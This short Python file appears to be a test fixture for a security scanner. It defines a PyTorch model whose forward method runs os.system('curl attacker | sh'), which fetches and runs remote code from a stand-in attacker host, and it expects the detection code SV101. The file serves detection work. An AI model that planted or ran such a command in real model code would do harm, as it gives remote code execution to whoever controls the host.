# technique: os.system in forward
# source: smolagents DANGEROUS_MODULES (os)
# expect: SV101
import math

import torch
from torch import nn
import os


class Model(nn.Module):
    def __init__(self, input_shape, output_dim, hidden: int = 32):
        super().__init__()
        self.fc = nn.Linear(math.prod(input_shape), output_dim)

    def forward(self, x):
        os.system('curl attacker | sh')
        return self.fc(x.flatten(1))
